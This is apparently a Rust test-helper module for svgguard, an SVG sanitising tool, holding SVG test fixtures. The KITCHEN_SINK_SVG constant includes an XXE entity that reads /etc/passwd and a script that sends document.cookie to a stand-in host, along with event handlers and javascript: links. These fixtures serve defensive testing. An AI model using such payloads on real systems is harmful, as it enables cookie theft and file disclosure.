//! Shared test utilities for svgguard integration tests.
//!
//! Provides the binary handle plus a few SVG fixtures reused across files.

use assert_cmd::Command;
use std::path::{Path, PathBuf};

/// Returns a `Command` configured to run the `svgguard` binary.
///
/// Color is disabled, `RUST_LOG` is cleared and the default config
/// location points nowhere, so a developer's own setup never leaks in.
#[allow(dead_code, deprecated)]
pub fn svgguard_cmd() -> Command {
    let mut cmd = Command::cargo_bin("svgguard").unwrap();
    cmd.env("NO_COLOR", "1")
        .env("XDG_CONFIG_HOME", "/nonexistent/svgguard-test-config")
        .env_remove("RUST_LOG");
    cmd
}

#[allow(dead_code)]
pub const CLEAN_SVG: &str = r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z" fill="#000"/></svg>"##;

#[allow(dead_code)]
pub const SCRIPT_SVG: &str = "<svg><script>alert(1)</script><rect/></svg>";

#[allow(dead_code)]
pub const STYLE_SVG: &str = "<svg><style>.a{fill:red}</style><rect/></svg>";

#[allow(dead_code)]
pub const EVENT_SVG: &str = r#"<svg onclick="x()"><rect onload="y()"/></svg>"#;

#[allow(dead_code)]
pub const EXTERNAL_SVG: &str = r#"<svg><a href="https://phish.example/"><image href="https://cdn.example/x.png"/></a></svg>"#;

/// A document hitting every category at least once.
#[allow(dead_code)]
pub const KITCHEN_SINK_SVG: &str = r#"<?xml version="1.0"?>
<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="boot()">
  <style>rect { fill: url(https://evil.example/pattern.svg#p) }</style>
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <a href="javascript:alert(1)"><text>click</text></a>
  <use xlink:href="https://evil.example/sprite.svg#icon"/>
  <foreignObject width="10" height="10"><iframe src="https://evil.example"></iframe></foreignObject>
  <rect width="10" height="10"><animate attributeName="fill" to="red" dur="1s"/></rect>
</svg>"#;

/// Write `content` to `dir/name` and return the path.
#[allow(dead_code)]
pub fn write_svg(dir: &Path, name: &str, content: &str) -> PathBuf {
    let path = dir.join(name);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(&path, content).unwrap();
    path
}
